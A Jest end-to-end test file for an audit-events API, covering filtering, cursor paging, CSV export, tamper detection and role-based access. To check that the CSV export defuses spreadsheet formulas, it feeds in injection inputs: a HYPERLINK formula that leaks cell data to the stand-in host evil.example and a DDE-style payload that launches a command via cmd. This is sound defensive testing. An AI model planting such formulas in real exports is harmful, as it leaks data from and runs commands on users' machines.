import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Response } from 'supertest';
import { act, aProspectiveApplicant, type ApplicationBody, fileApplication } from './fixtures/applications.js';
import { LogIntegrator } from '@near/audit';
import { aUser, bearer, type TestUser } from './fixtures/users.js';
import { createTestApp, type TestApp } from './utils/create-test-app.js';

interface AuditEventBody {
  seq: number;
  occurredAt: string;
  actorUserId: string | null;
  actorRole: string | null;
  actorGovernmentId: string | null;
  action: string;
  entityType: string;
  entityId: string;
  stateBefore: string | null;
  stateAfter: string | null;
  payload: Record<string, unknown>;
  requestId: string | null;
  clientAddress: string | null;
  leafIndex: number | null;
}

/** The export's columns, in order: a contract with the tools that read it. */
const CSV_COLUMNS = [
  'seq',
  'occurredAt',
  'actorUserId',
  'actorRole',
  'actorGovernmentId',
  'action',
  'entityType',
  'entityId',
  'stateBefore',
  'stateAfter',
  'payload',
  'requestId',
  'clientAddress',
  'leafIndex',
] as const;

const FORMULA_START = /^[=+\-@\t\r]/;
const PROBLEM_JSON = /^application\/problem\+json/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the letter")';
const MULTILINE_MESSAGE = `${HYPERLINK}\nPlease send: 1) the letter, signed; 2) the "statute", in English,\r\nand the map.`;

/**
 * A strict RFC 4180 parser: CRLF ends a record, a quoted field may hold commas, quotes (doubled) and line
 * breaks, and anything else (a bare quote or line break in an unquoted field, text after a closing quote,
 * no CRLF at the end) is an error rather than a guess.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let atFieldStart = true;
  let quoted = false;
  let closed = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else {
        quoted = false;
        closed = true;
      }
      continue;
    }
    if (c === ',') {
      record.push(field);
      field = '';
      atFieldStart = true;
      closed = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      atFieldStart = true;
      closed = false;
      i++;
    } else if (closed) {
      throw new Error(`CSV: text after a closing quote at ${i}`);
    } else if (c === '"') {
      if (!atFieldStart) throw new Error(`CSV: a quote inside an unquoted field at ${i}`);
      quoted = true;
      atFieldStart = false;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`CSV: a bare line break outside quotes at ${i}`);
    } else {
      field += c;
      atFieldStart = false;
    }
  }
  if (quoted) throw new Error('CSV: an unterminated quoted field');
  if (!atFieldStart || record.length > 0) throw new Error('CSV: the last record does not end with CRLF');
  return records;
}

/** The header row and the records as objects keyed by it. */
function csvRecords(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...records] = parseCsv(text);
  for (const record of records) expect(record).toHaveLength(header.length);
  return { header, rows: records.map((record) => Object.fromEntries(header.map((column, i) => [column, record[i]]))) };
}

/** The cell the export should hold for a value of the JSON API. */
function expectedCell(column: (typeof CSV_COLUMNS)[number], event: AuditEventBody): string {
  const value = event[column];
  const text = value === null ? '' : String(value);
  return FORMULA_START.test(text) ? `'${text}` : text;
}

const sleep = (ms: number) => new Promise((done) => setTimeout(done, ms));

describe('the audit events API', () => {
  let api: TestApp;
  let secretariat: TestUser;
  let applicant: TestUser;
  let otherApplicant: TestUser;
  let first: ApplicationBody;
  let second: ApplicationBody;

  const list = (query: string, user: TestUser = secretariat) => api.http().get(`/audit-events${query}`).set(bearer(user));
  const items = async (query: string): Promise<AuditEventBody[]> => (await list(query).expect(200)).body.items;
  const countEntries = async (): Promise<number> => {
    const [{ count }] = await api.dataSource.query(`SELECT count(*)::int AS count FROM audit_events`);
    return count;
  };
  /** Every entry, through the API. */
  const everything = async (): Promise<AuditEventBody[]> => {
    const page = await list('?limit=1000').expect(200);
    expect(page.body.nextCursor).toBeNull();
    return page.body.items;
  };
  /** The audit trail stamps entries with the database's clock, which need not be this process's. */
  const databaseNow = async (): Promise<string> => {
    const [{ now }] = await api.dataSource.query(`SELECT clock_timestamp() AS now`);
    return (now as Date).toISOString();
  };
  const expectProblem = (response: Response, status: number) => {
    expect({ status: response.status, contentType: response.headers['content-type'] }).toEqual({
      status,
      contentType: expect.stringMatching(PROBLEM_JSON),
    });
    expect(response.body).toMatchObject({ status, type: expect.stringMatching(/^urn:near:problem:/), detail: expect.any(String) });
  };

  beforeAll(async () => {
    api = await createTestApp();
    secretariat = await aUser(api, 'secretariat');
    applicant = await aProspectiveApplicant(api);
    otherApplicant = await aProspectiveApplicant(api, 'KR');
    first = await fileApplication(api, applicant);
    second = await fileApplication(api, otherApplicant, { category: 'associate' });
    await act(api, secretariat, first, 'start-review').expect(200);
    await act(api, secretariat, second, 'start-review').expect(200);
    await act(api, secretariat, first, 'request-information', { message: MULTILINE_MESSAGE }).expect(200);
    await act(api, applicant, first, 'respond', { message: 'Sent, with the map.' }).expect(200);
    await act(api, secretariat, second, 'declare-ineligible', { reasons: 'Not, in the end, a regional government.' }).expect(200);
  });
  afterAll(() => api.close());

  describe('listing', () => {
    it('lists every entry oldest first, with a null nextCursor on the last page', async () => {
      const all = await everything();
      expect(all).toHaveLength(await countEntries());
      expect(all.length).toBeGreaterThanOrEqual(7);
      expect(all.map((event) => event.seq)).toEqual(all.map((_, i) => all[0].seq + i));
      for (let i = 1; i < all.length; i++) expect(all[i].occurredAt >= all[i - 1].occurredAt).toBe(true);
      const firstOf = all.find((event) => event.entityId === first.id && event.action === 'application.request-information');
      expect(firstOf).toMatchObject({
        actorUserId: secretariat.id,
        actorRole: 'secretariat',
        entityType: 'application',
        stateBefore: 'under_review',
        stateAfter: 'information_requested',
        payload: expect.objectContaining({ input: { message: MULTILINE_MESSAGE } }),
        requestId: expect.any(String),
        leafIndex: null,
      });

      const page = await list('?limit=2').expect(200);
      expect(page.body.items.map((event: AuditEventBody) => event.seq)).toEqual([all[0].seq, all[1].seq]);
      expect(page.body.nextCursor).toBe(String(all[1].seq));
    });

    it('narrows by application, actor, action and time, each alone and together', async () => {
      const all = await everything();
      const seqs = (events: AuditEventBody[]) => events.map((event) => event.seq);

      const ofFirst = await items(`?applicationId=${first.id}`);
      expect(seqs(ofFirst)).toEqual(seqs(all.filter((event) => event.entityType === 'application' && event.entityId === first.id)));
      expect(ofFirst.map((event) => event.action)).toEqual([
        'application.submitted',
        'application.start-review',
        'application.request-information',
        'application.respond',
      ]);
      const history = await api.http().get(`/applications/${first.id}/history`).set(bearer(secretariat)).expect(200);
      expect(ofFirst).toEqual(history.body);

      const bySecretariat = await items(`?actorId=${secretariat.id}`);
      expect(bySecretariat.length).toBe(4);
      expect(seqs(bySecretariat)).toEqual(seqs(all.filter((event) => event.actorUserId === secretariat.id)));
      expect(seqs(await items(`?actorId=${applicant.id}`))).toEqual(seqs(all.filter((event) => event.actorUserId === applicant.id)));

      const reviews = await items('?action=application.start-review');
      expect(reviews.map((event) => event.entityId).sort()).toEqual([first.id, second.id].sort());
      expect(await items('?action=application.no-such-action')).toEqual([]);

      expect(seqs(await items(`?applicationId=${first.id}&actorId=${secretariat.id}`))).toEqual(
        seqs(ofFirst.filter((event) => event.actorUserId === secretariat.id)),
      );
      expect(seqs(await items(`?applicationId=${second.id}&action=application.start-review`))).toEqual(
        seqs(reviews.filter((event) => event.entityId === second.id)),
      );

      // Time: `from` is inclusive, `to` exclusive, and they split the trail at any instant.
      const middle = all[Math.floor(all.length / 2)];
      const from = await items(`?from=${encodeURIComponent(middle.occurredAt)}`);
      const to = await items(`?to=${encodeURIComponent(middle.occurredAt)}`);
      expect(seqs(from)).toEqual(seqs(all.filter((event) => event.occurredAt >= middle.occurredAt)));
      expect(seqs(from)).toContain(middle.seq);
      expect(seqs(to)).toEqual(seqs(all.filter((event) => event.occurredAt < middle.occurredAt)));
      expect([...seqs(to), ...seqs(from)]).toEqual(seqs(all));
      // The same instant written with an offset.
      const inTokyo = new Date(Date.parse(middle.occurredAt) + 9 * 3_600_000).toISOString().replace('Z', '+09:00');
      expect(seqs(await items(`?from=${encodeURIComponent(inTokyo)}`))).toEqual(seqs(from));

      // A window in which exactly one known action happened, on the clock that stamps the entries.
      await sleep(15);
      const before = await databaseNow();
      await sleep(15);
      await act(api, applicant, first, 'withdraw', { reason: 'Filed in error.' }).expect(200);
      await sleep(15);
      const after = await databaseNow();
      const window = await items(`?from=${before}&to=${after}`);
      expect(window.map((event) => [event.action, event.entityId])).toEqual([['application.withdraw', first.id]]);
      expect(await items(`?from=${after}`)).toEqual([]);
      expect(await items(`?from=${after}&to=${before}`)).toEqual([]);
    });

    it('matches an application id written in capitals', async () => {
      const lower = await items(`?applicationId=${first.id}`);
      expect(lower.length).toBeGreaterThan(0);
      expect(await items(`?applicationId=${first.id.toUpperCase()}`)).toEqual(lower);
      expect(await items(`?actorId=${secretariat.id.toUpperCase()}`)).toEqual(await items(`?actorId=${secretariat.id}`));
    });

    it('visits every entry exactly once while paging, even as entries are appended between pages', async () => {
      const seen: number[] = [];
      let cursor: string | null = null;
      let appended = 0;
      do {
        const page: Response = await list(`?limit=3${cursor ? `&cursor=${cursor}` : ''}`).expect(200);
        const pageItems = page.body.items as AuditEventBody[];
        expect(pageItems.length).toBeGreaterThan(0);
        expect(pageItems.length).toBeLessThanOrEqual(3);
        seen.push(...pageItems.map((event) => event.seq));
        cursor = page.body.nextCursor;
        expect(cursor).toBe(cursor === null ? null : String(pageItems[pageItems.length - 1].seq));
        // Someone else acts meanwhile, for the first few pages.
        if (cursor !== null && appended < 3) {
          await fileApplication(api, await aProspectiveApplicant(api, 'MN'));
          appended += 1;
        }
      } while (cursor !== null);
      expect(appended).toBe(3);
      expect(new Set(seen).size).toBe(seen.length);
      const [{ seqs }] = await api.dataSource.query(`SELECT array_agg(seq::int ORDER BY seq) AS seqs FROM audit_events`);
      expect(seen).toEqual(seqs);
    });

    it('pages a filtered list with its own cursor', async () => {
      const reviewed = await aProspectiveApplicant(api, 'JP');
      const filed = await fileApplication(api, reviewed);
      await act(api, secretariat, filed, 'start-review').expect(200);
      const firstPage = await list(`?applicationId=${filed.id}&limit=1`).expect(200);
      expect(firstPage.body.items.map((event: AuditEventBody) => event.action)).toEqual(['application.submitted']);
      await act(api, secretariat, filed, 'request-information', { message: 'More, please.' }).expect(200);
      await fileApplication(api, await aProspectiveApplicant(api, 'JP'));
      const rest = await list(`?applicationId=${filed.id}&limit=5&cursor=${firstPage.body.nextCursor}`).expect(200);
      expect(rest.body.items.map((event: AuditEventBody) => event.action)).toEqual([
        'application.start-review',
        'application.request-information',
      ]);
      expect(rest.body.nextCursor).toBeNull();
    });

    it.each([
      ['limit 0', '?limit=0'],
      ['limit 5000', '?limit=5000'],
      ['limit 1.5', '?limit=1.5'],
      ['limit ten', '?limit=ten'],
      ['cursor abc', '?cursor=abc'],
      ['a negative cursor', '?cursor=-1'],
      ['from yesterday', '?from=yesterday'],
      ['to in month 13', '?to=2026-13-01T00:00:00Z'],
      ['applicationId x', '?applicationId=x'],
      ['actorId x', '?actorId=x'],
      ['format xml', '?format=xml'],
      ['an unknown parameter', '?governmentId=x'],
    ])('refuses %s with 400 problem+json', async (_name, query) => {
      expectProblem(await list(query), 400);
    });
  });

  describe('CSV export', () => {
    it('gives the page as RFC 4180 CSV with format=csv, one record per entry, a header row and Next-Cursor while there are more', async () => {
      const all = await everything();
      const response = await list('?format=csv&limit=1000').expect(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      expect(response.headers['next-cursor']).toBeUndefined();
      const { header, rows } = csvRecords(response.text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(all.length);
      // Every cell as the JSON API has it (formula cells defused), the payload as JSON of the same value.
      expect(rows.map((row) => ({ ...row, payload: JSON.parse(row.payload) }))).toEqual(
        all.map((event) => ({
          ...Object.fromEntries(CSV_COLUMNS.map((column) => [column, expectedCell(column, event)])),
          payload: event.payload,
        })),
      );
      // The request-information message survives its commas, quotes and line breaks.
      const asked = rows.find((row) => row.entityId === first.id && row.action === 'application.request-information');
      expect(JSON.parse(asked!.payload).input.message).toBe(MULTILINE_MESSAGE);

      const page = await list('?format=csv&limit=2').expect(200);
      expect(page.headers['next-cursor']).toBe(String(all[1].seq));
      expect(csvRecords(page.text).rows.map((row) => row.seq)).toEqual([String(all[0].seq), String(all[1].seq)]);
      const next = await list(`?format=csv&limit=2&cursor=${page.headers['next-cursor']}`).expect(200);
      expect(csvRecords(next.text).rows.map((row) => row.seq)).toEqual([String(all[2].seq), String(all[3].seq)]);
    });

    it('answers Accept: text/csv with the same CSV, and format=json overrides it', async () => {
      const byFormat = await list(`?format=csv&applicationId=${first.id}`).expect(200);
      const byAccept = await list(`?applicationId=${first.id}`).set('Accept', 'text/csv').expect(200);
      expect(byAccept.headers['content-type']).toMatch(/^text\/csv/);
      expect(byAccept.text).toBe(byFormat.text);
      const paged = await list('?limit=1').set('Accept', 'text/csv').expect(200);
      expect(paged.headers['next-cursor']).toMatch(/^\d+$/);
      const json = await list(`?format=json&applicationId=${first.id}`).set('Accept', 'text/csv').expect(200);
      expect(json.headers['content-type']).toMatch(/^application\/json/);
      expect(json.body.items.length).toBe(csvRecords(byFormat.text).rows.length);
    });

    it('gives only the header row for an empty page', async () => {
      const response = await list('?format=csv&action=application.no-such-action').expect(200);
      expect(parseCsv(response.text)).toEqual([[...CSV_COLUMNS]]);
      expect(response.headers['next-cursor']).toBeUndefined();
    });

    it('neutralises what a spreadsheet would run as a formula, wherever a caller could put it', async () => {
      // A payload holding a formula (the request-information message above) and an entity id chosen by
      // an anonymous caller (a failed sign-in records the e-mail it was given). A request id is never the
      // client's X-Request-Id: the formula sent there is not stored.
      const formulaEmail = '=1+1@evil.example';
      await api.http().post('/auth/login').send({ email: formulaEmail, password: 'guess' }).expect(401);
      const withRequestId = await aProspectiveApplicant(api, 'RU');
      const submitted = await api
        .http()
        .post('/applications')
        .set(bearer(withRequestId))
        .set('X-Request-Id', '-1-1')
        .send({
          governmentId: withRequestId.governmentId,
          category: 'member',
          headOfGovernment: '@SUM(1+1)*cmd|"/C calc"!A0',
          statementOfPurpose: HYPERLINK,
          contact: { name: '+Wang, Li', email: 'wang.li@example.test' },
        })
        .expect(201);

      const all = await everything();
      const response = await list('?format=csv&limit=1000').expect(200);
      const records = parseCsv(response.text);
      for (const record of records)
        for (const cell of record) expect({ cell, formula: FORMULA_START.test(cell) }).toEqual({ cell, formula: false });

      const { rows } = csvRecords(response.text);
      const failed = all.find((event) => event.action === 'auth.sign-in-failed' && event.entityId === formulaEmail);
      expect(failed).toBeDefined();
      expect(rows.find((row) => row.seq === String(failed!.seq))!.entityId).toBe(`'${formulaEmail}`);
      expect(all.filter((event) => event.requestId === '-1-1')).toEqual([]);
      const filed = all.find((event) => event.requestId === submitted.headers['x-request-id']);
      expect(filed).toMatchObject({ action: 'application.submitted' });
      const filedRow = rows.find((row) => row.seq === String(filed!.seq))!;
      expect(filedRow.requestId).toBe(filed!.requestId);
      // The payload cell is the canonical JSON that was hashed, untouched: it starts with "{", never with "=".
      expect(filedRow.payload.startsWith('{')).toBe(true);
      expect(JSON.parse(filedRow.payload)).toEqual(filed!.payload);
      const asked = rows.find((row) => row.entityId === first.id && row.action === 'application.request-information')!;
      expect(asked.payload.startsWith('{')).toBe(true);
      expect(JSON.parse(asked.payload).input.message).toContain(HYPERLINK);
    });
  });

  describe('verify', () => {
    /**
     * Edits the table behind the app's back, as a superuser can (the tests connect as postgres); the
     * triggers are off only inside this transaction, as in audit-trail.e2e-spec.ts.
     */
    const integrate = () => api.app.get(LogIntegrator).integrateAll();
    const tamper = (statement: string, parameters: unknown[]) =>
      api.dataSource.transaction(async (manager) => {
        await manager.query('ALTER TABLE audit_events DISABLE TRIGGER USER');
        await manager.query(statement, parameters);
        await manager.query('ALTER TABLE audit_events ENABLE TRIGGER USER');
      });

    it('checks every entry of an intact trail, then names the entry whose payload was changed', async () => {
      await integrate();
      const intact = await api.http().get('/audit-events/verify').set(bearer(secretariat)).expect(200);
      expect(intact.body).toEqual({ valid: true, checked: await countEntries() });
      expect(intact.body.checked).toBe((await everything()).length);

      const [target] = await api.dataSource.query(
        `SELECT seq::int AS seq, payload, leaf_index::int AS "leafIndex"
           FROM audit_events JOIN log_leaves USING (seq) WHERE action = 'application.declare-ineligible' AND entity_id = $1`,
        [second.id],
      );
      await tamper(`UPDATE audit_events SET payload = $1 WHERE seq = $2`, ['{"reasons":"Eligible after all."}', target.seq]);
      try {
        const broken = await api.http().get('/audit-events/verify').set(bearer(secretariat)).expect(200);
        expect(broken.body).toEqual({ valid: false, checked: target.leafIndex, firstInvalidId: target.seq });
        // The forged payload is what the API now shows: only verify can tell.
        const shown = await items(`?applicationId=${second.id}&action=application.declare-ineligible`);
        expect(shown[0].payload).toEqual({ reasons: 'Eligible after all.' });
      } finally {
        await tamper(`UPDATE audit_events SET payload = $1 WHERE seq = $2`, [target.payload, target.seq]);
      }
      const restored = await api.http().get('/audit-events/verify').set(bearer(secretariat)).expect(200);
      expect(restored.body).toEqual({ valid: true, checked: await countEntries() });
    });
  });

  describe('access', () => {
    it('answers 403 to an applicant, a delegate and an admin on both routes, and 401 without a token', async () => {
      const delegate = await aUser(api, 'delegate', { government: 'Toyama' });
      const admin = await aUser(api, 'admin');
      for (const user of [applicant, delegate, admin]) {
        for (const path of ['/audit-events', '/audit-events?format=csv', '/audit-events/verify']) {
          const response = await api.http().get(path).set(bearer(user));
          expect({ role: user.role, path, status: response.status }).toEqual({ role: user.role, path, status: 403 });
          expectProblem(response, 403);
        }
      }
      expectProblem(await api.http().get('/audit-events'), 401);
      expectProblem(await api.http().get('/audit-events/verify'), 401);
    });
  });
});
